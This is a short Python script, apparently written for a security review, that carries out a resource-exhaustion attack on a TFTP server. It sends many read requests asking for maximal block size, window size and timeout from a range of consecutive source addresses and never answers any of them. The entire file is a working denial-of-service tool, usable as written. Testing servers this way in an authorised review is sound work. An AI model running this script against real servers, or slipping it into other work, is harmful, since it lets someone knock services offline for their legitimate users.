#!/usr/bin/python3
# Security review H5's attack, held for a while: TFTP read requests that ask for the largest blocks
# and window and the longest timeout, and never answer. Each round sends COUNT requests from each of
# ADDRESSES consecutive source addresses (each from a new port: a new transfer), then waits a second.
# Usage: tftp_greedy.py SERVER PORT FIRST_ADDRESS ADDRESSES COUNT SECONDS FILE
# Prints the number of requests sent.
import socket
import sys
import time

server, port, first, addresses, count, seconds, name = sys.argv[1:8]
prefix, last = first.rsplit(".", 1)
request = (b"\x00\x01" + name.encode() + b"\x00octet\x00blksize\x0065464\x00windowsize\x0064\x00"
           b"timeout\x00255\x00")
sent = 0
end = time.monotonic() + float(seconds)
while time.monotonic() < end:
    for i in range(int(addresses)):
        source = "%s.%d" % (prefix, int(last) + i)
        for _ in range(int(count)):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((source, 0))
            s.sendto(request, (server, int(port)))
            s.close()
            sent += 1
    time.sleep(1)
print(sent)
